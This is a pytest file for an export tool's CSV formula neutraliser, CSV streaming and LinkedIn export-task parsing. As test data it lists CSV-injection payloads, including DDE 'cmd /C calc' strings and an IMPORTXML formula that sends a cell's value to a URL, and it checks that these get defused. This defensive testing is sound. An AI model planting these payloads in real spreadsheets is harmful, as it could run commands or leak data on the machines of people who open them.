"""Pure logic: CSV cell neutralising, log redaction, LinkedIn task parsing."""

from __future__ import annotations

import csv
import io
import itertools

import pytest

from exports.downloads.base import FIRST_CHUNK_ITEMS, chunks, csv_chunks
from exports.downloads.formulas import neutralise, neutralise_row
from exports.linkedin_api import Unavailable, parse_export_task


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x","click")', '\'=HYPERLINK("http://x","click")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+1 415 555 0100", "+1 415 555 0100"),
        ("(415) 555-0100", "(415) 555-0100"),
        ("+44 20 7946 0958", "+44 20 7946 0958"),
        # Extensions and E.164: no formula can be built from them either.
        ("+1-415-555-0164 ext. 43", "+1-415-555-0164 ext. 43"),
        ("+1 415 555 0164 ext 43", "+1 415 555 0164 ext 43"),
        ("+1 415 555 0164 x43", "+1 415 555 0164 x43"),
        ("+1 415 555 0164 #43", "+1 415 555 0164 #43"),
        ("+14155550164", "+14155550164"),
        ("+14155550164 ext. 43", "+14155550164 ext. 43"),
        ("+33 1/55.55.01.00", "+33 1/55.55.01.00"),
        ("+14155550100 ::: +442079460958", "+14155550100 ::: +442079460958"),  # Google's list
        ("+14155550100 ::: =1+1", "'+14155550100 ::: =1+1"),
        # OWASP's CSV-injection payloads, and look-alikes of a phone number.
        ("=1+2", "'=1+2"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        (
            '=IMPORTXML(CONCAT("http://x?v=", A1), "//a")',
            '\'=IMPORTXML(CONCAT("http://x?v=", A1), "//a")',
        ),
        ("+1+1", "'+1+1"),
        ("-1-1", "'-1-1"),
        ("+1 415 555 0164 ext. A1", "'+1 415 555 0164 ext. A1"),
        ("+1 415\t555", "'+1 415\t555"),
        ("+1 415 555 0164\nx43", "'+1 415 555 0164\nx43"),
        ("+", "'+"),
        # Digits other than ASCII ones are no phone number: only 0-9 are.
        ("+\u0664\u0664\u0662", "'+\u0664\u0664\u0662"),
        ("+4\u00b2", "'+4\u00b2"),
        ("-442079460958", "'-442079460958"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("ada+news@example.com", "ada+news@example.com"),
        ("李小龙", "李小龙"),
        ("", ""),
    ],
)
def test_neutralise_defuses_formulas_but_keeps_phone_numbers(cell, expected):
    assert neutralise(cell) == expected


def test_neutralise_row_neutralises_every_cell_and_copies_only_rows_that_change():
    plain = ("Ada Lovelace", "ada@example.com", "+1 415 555 0100", "+14155550100")
    assert neutralise_row(plain) is plain
    risky = ("=1+2", "ada@example.com", "+1 415 555 0100", "@SUM(A1)")
    assert neutralise_row(risky) == [neutralise(cell) for cell in risky]
    assert neutralise_row(risky) == ["'=1+2", "ada@example.com", "+1 415 555 0100", "'@SUM(A1)"]


def test_csv_chunks_are_rfc4180_and_round_trip():
    rows = [('Ünïcödé, "quoted"\nname', "a@example.com", "+1 415 555 0100")] * 5000
    body = b"".join(csv_chunks(["Name", "Email Address", "Phone Number"], rows)).decode()
    parsed = list(csv.reader(io.StringIO(body, newline="")))
    assert parsed[0] == ["Name", "Email Address", "Phone Number"]
    assert parsed[1:] == [list(row) for row in rows]
    assert body.endswith("\r\n")


def test_the_first_chunk_leaves_after_the_first_rows_not_the_first_64_kb():
    def rows():
        yield from [("name", "a@example.com", "")] * FIRST_CHUNK_ITEMS
        raise AssertionError("the first chunk waited for more rows")

    first = next(csv_chunks(["Name", "Email", "Phone"], rows())).decode()
    assert first.count("\r\n") == 1 + FIRST_CHUNK_ITEMS
    pieces = next(chunks(itertools.chain(["piece"] * FIRST_CHUNK_ITEMS, rows())))
    assert pieces == b"piece" * FIRST_CHUNK_ITEMS


def test_csv_chunks_stream_in_bounded_pieces():
    rows = ([f"name {i}", f"{i}@example.com", ""] for i in range(50_000))
    sizes = [len(chunk) for chunk in csv_chunks(["Name", "Email", "Phone"], rows)]
    assert len(sizes) > 10
    assert max(sizes) < 128 * 1024


@pytest.mark.parametrize(
    "body",
    [b"{not json", b"[]", b'{"status": "PENDING_REVIEW"}', b'{"status": "SUCCEEDED"}'],
)
def test_garbage_task_bodies_are_unavailable_not_crashes(body):
    with pytest.raises(Unavailable):
        parse_export_task(body)


def test_a_succeeded_task_carries_its_result_whatever_the_key_order():
    body = (
        b'{"result~": {"contacts": [{"name": "Ada"}, {}], "expiresAt": 1.5e12},'
        b' "status": "SUCCEEDED"}'
    )
    parsed = parse_export_task(body)
    assert parsed.status == "SUCCEEDED"
    assert list(parsed.result.contacts()) == [{"name": "Ada"}, {}]
    assert parsed.result.expires_at() == 1.5e12


@pytest.mark.parametrize(
    "result",
    [
        b'{"contacts": {"item": {}}}',
        b'{"contacts": "none"}',
        b"{}",
        b'{"contacts": [{"a": 1}, {"b"',
    ],
)
def test_contacts_that_are_not_a_list_or_break_off_are_unavailable(result):
    parsed = parse_export_task(b'{"status": "SUCCEEDED", "result~": ' + result + b"}")
    with pytest.raises(Unavailable):
        list(parsed.result.contacts())


def test_an_in_progress_task_has_no_result():
    assert parse_export_task(b'{"status": "IN_PROGRESS", "id": "x"}').result is None
